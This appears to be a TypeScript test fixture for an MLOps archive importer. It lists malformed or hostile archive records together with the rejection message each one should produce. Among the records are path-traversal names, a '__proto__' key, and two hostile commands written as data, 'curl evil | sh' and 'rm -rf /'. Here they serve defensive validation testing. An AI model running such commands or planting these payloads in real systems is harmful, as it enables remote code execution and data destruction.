/** Hostile archives whose bytes fit and whose records do not: what they say is not what they may say. */
import { canonicalBytes } from '../../../src/core/canonical-json.ts'
import { archiveOf, digestOf, type Loose, type Parts, partsOf, replaceObject, sealed } from './archives.ts'
import type { Hostile } from './hostile.ts'

/** Everything derived fits again: digests, seals, sizes, order. */
const rebuilt = (what: string, change: (parts: Parts) => Parts | undefined, says: RegExp): Hostile => ({
  what,
  make: (sound) => {
    const parts = partsOf(sound)
    return archiveOf(change(parts) ?? parts)
  },
  says,
})
const manifest = (what: string, change: (manifest: Loose) => void, says: RegExp): Hostile =>
  rebuilt(`a manifest with ${what}`, (parts) => void change(parts.manifest), says)
const index = (what: string, change: (index: Loose) => void, says: RegExp): Hostile =>
  rebuilt(`an index with ${what}`, (parts) => ({ ...parts, index: change }), says)
const body = (what: string, change: (body: Loose, event: Loose) => void, says: RegExp): Hostile =>
  rebuilt(`an origin with ${what}`, ({ origin }) => void change(origin.event.body, origin.event), says)
const start = (what: string, change: (start: Loose) => void, says: RegExp): Hostile =>
  rebuilt(
    `a run with ${what}`,
    (parts) => {
      const digest = parts.origin.event.body.run.run.sha256
      const record = JSON.parse(String(parts.objects.get(digest)))
      change(record)
      return replaceObject(parts, digest, canonicalBytes(sealed(record)))
    },
    says,
  )

export const RECORDS: readonly Hostile[] = [
  index(
    'a larger format',
    (it) => {
      it.format = 2
    },
    /format 2; this mlops reads format 1/,
  ),
  index(
    'another kind',
    (it) => {
      it.kind = 'x'
    },
    /"archive.json": kind is not one of/,
  ),
  index(
    'an unknown member',
    (it) => {
      it.more = 1
    },
    /has a member "more" that this mlops does not know/,
  ),
  index(
    'too many entries',
    (it) => {
      it.entries = Array(10_101).fill(it.entries[0])
    },
    /entries has 10101 items/,
  ),
  index(
    'a size of a petabyte',
    (it) => {
      it.entries[1].size = 1e15
    },
    /it has \d+ bytes, and archive.json says 1000000000000000/,
  ),
  index(
    'a size below zero',
    (it) => {
      it.entries[1].size = -1
    },
    /entries\[1\].size is not a size/,
  ),
  index(
    'an entry of a forbidden name',
    (it) => {
      it.entries[1].path = '../x'
    },
    /it names "..\/x", which no archive has/,
  ),
  index(
    'an entry twice',
    (it) => {
      it.entries.splice(1, 0, it.entries[1])
    },
    /it names objects\/[0-9a-f]+ twice/,
  ),
  index(
    'another order',
    (it) => {
      it.entries.reverse()
    },
    /it names .* after /,
  ),
  index(
    'another digest of an object',
    (it) => {
      it.entries[1].sha256 = '0'.repeat(64)
    },
    /with another digest/,
  ),
  index(
    'another digest of the manifest',
    (it) => {
      it.manifest = '0'.repeat(64)
    },
    /does not name manifest.json with the digest/,
  ),
  index(
    'no origin',
    (it) => {
      it.entries = it.entries.filter((each: Loose) => each.path !== 'origin.json')
    },
    /does not name origin.json/,
  ),
  index(
    'another version than the event',
    (it) => {
      it.version = 99
    },
    /and archive.json says churn-model@99/,
  ),
  index(
    'the name of another model',
    (it) => {
      it.model = 'other'
    },
    /and archive.json says other@1/,
  ),
  manifest(
    'a path upwards',
    (it) => {
      it.files[0].path = '../../evil'
    },
    /files\[0\].path "..\/..\/evil" leads upwards/,
  ),
  manifest(
    'a path upwards on Windows',
    (it) => {
      it.files[0].path = 'a\\..\\..\\evil'
    },
    /leads upwards/,
  ),
  manifest(
    'an absolute path',
    (it) => {
      it.files[0].path = '/etc/passwd'
    },
    /is absolute/,
  ),
  manifest(
    'an empty part',
    (it) => {
      it.files[0].path = 'a//b'
    },
    /has an empty part/,
  ),
  manifest(
    'a control character in a name',
    (it) => {
      it.files[0].path = 'a\u001b[2J'
    },
    /is not plain text/,
  ),
  manifest(
    'two files of one name',
    (it) => {
      it.files[1].path = it.files[0].path.toUpperCase()
    },
    /would be one file on some disks/,
  ),
  manifest(
    'a file that is a folder',
    (it) => {
      it.files[1].path = `${it.files[0].path}/x`
    },
    /is both a file and the folder of/,
  ),
  manifest(
    'another size of a file',
    (it) => {
      it.files[0].size += 1
    },
    /and the file model\/config.json has/,
  ),
  manifest(
    'a file that is not there',
    (it) => {
      it.files[0].sha256 = '0'.repeat(64)
    },
    /it is missing: the file model\/config.json/,
  ),
  manifest(
    'a verdict that does not exist',
    (it) => {
      it.files[0].scan.verdict = 'safe'
    },
    /scan.verdict is not one of/,
  ),
  manifest(
    'a member that is not known',
    (it) => {
      it.run = 'curl evil | sh'
    },
    /has a member "run" that this mlops does not know/,
  ),
  manifest(
    'a metric that is no number',
    (it) => {
      it.metrics.auc = 'high'
    },
    /metrics.auc is not a number/,
  ),
  manifest(
    'a forbidden key',
    (it) => {
      it.params = JSON.parse('{"__proto__": "x"}')
    },
    /has a member of a forbidden name/,
  ),
  manifest(
    'a model of a forbidden name',
    (it) => {
      it.model = '../evil'
    },
    /model cannot be the name of a model/,
  ),
  manifest(
    'another model than the event',
    (it) => {
      it.model = 'other'
    },
    /its event is of churn-model, the version is one of other/,
  ),
  manifest(
    'no files member',
    (it) => {
      delete it.files
    },
    /it has no files/,
  ),
  manifest(
    'a list in the place of an object',
    (it) => {
      it.metrics = []
    },
    /metrics is not an object/,
  ),
  rebuilt(
    'a manifest that is no canonical JSON',
    (parts) => {
      const text = JSON.stringify(parts.manifest, null, 2)
      return { ...parts, manifest: Buffer.from(`${text}\n`) }
    },
    /"manifest.json": it is not canonical JSON/,
  ),
  rebuilt(
    'a manifest nested very deeply',
    (parts) => ({ ...parts, manifest: Buffer.from(`${'['.repeat(200_000)}${']'.repeat(200_000)}\n`) }),
    /"manifest.json": it is not canonical JSON/,
  ),
  rebuilt(
    'an object that nothing refers to',
    (parts) => {
      const bytes = Buffer.from('stowaway')
      return { ...parts, objects: new Map(parts.objects).set(digestOf(bytes), bytes) }
    },
    /nothing in the archive refers to it/,
  ),
  body(
    'another type',
    (_, event) => {
      event.type = 'promote'
    },
    /event.type is not one of "register"/,
  ),
  body(
    'a version that is no number',
    (it) => {
      it.version = 'latest'
    },
    /version is not a whole number/,
  ),
  body(
    'a time that is none',
    (_, event) => {
      event.time = 'yesterday'
    },
    /event.time is no time/,
  ),
  body(
    'an actor without a name',
    (_, event) => {
      event.actor = {}
    },
    /event.actor has no name/,
  ),
  body(
    'an unknown member',
    (it) => {
      it.stage = 'production'
    },
    /has a member "stage" that this mlops does not know/,
  ),
  body(
    'a run that is not there',
    (it) => {
      it.run.run.sha256 = '0'.repeat(64)
    },
    /it is missing: the run.json of run/,
  ),
  body(
    'another run',
    (it) => {
      it.run.id = '01AAAAAAAAAAAAAAAAAAAAAAAA'
    },
    /it pins the record of another run/,
  ),
  body(
    'a run of a forbidden name',
    (it) => {
      it.run.id = '../../runs'
    },
    /run.id is no run id/,
  ),
  body(
    'an earlier import that is not there',
    (it) => {
      it.imported = {
        archive: '0'.repeat(64),
        store: '0'.repeat(32),
        model: 'a',
        version: 1,
        manifest: '0'.repeat(64),
        registered: { time: '2026-01-01T00:00:00.000Z', by: { name: 'x', origin: 'local' } },
        origin: { sha256: '0'.repeat(64), size: 1 },
        kept: [],
      }
    },
    /it is missing: the origin of the earlier import/,
  ),
  rebuilt(
    'an origin of another store',
    ({ origin }) => {
      origin.store = 'x'
      return undefined
    },
    /store is no id of a store/,
  ),
  rebuilt(
    'an origin whose event was changed without its seal',
    (parts) => {
      parts.origin.event.actor.name = 'eve'
      return { ...parts, reseal: false }
    },
    /"origin.json": its event was changed/,
  ),
  start(
    'a command that is no list',
    (it) => {
      it.command = 'rm -rf /'
    },
    /command is not a list/,
  ),
  start(
    'no host',
    (it) => {
      delete it.host
    },
    /it has no host/,
  ),
  start(
    'data that are no list',
    (it) => {
      it.data = { length: 1 }
    },
    /data is not a list/,
  ),
  start(
    'an environment of numbers',
    (it) => {
      it.env = { PATH: 5 }
    },
    /env.PATH is not a text/,
  ),
]
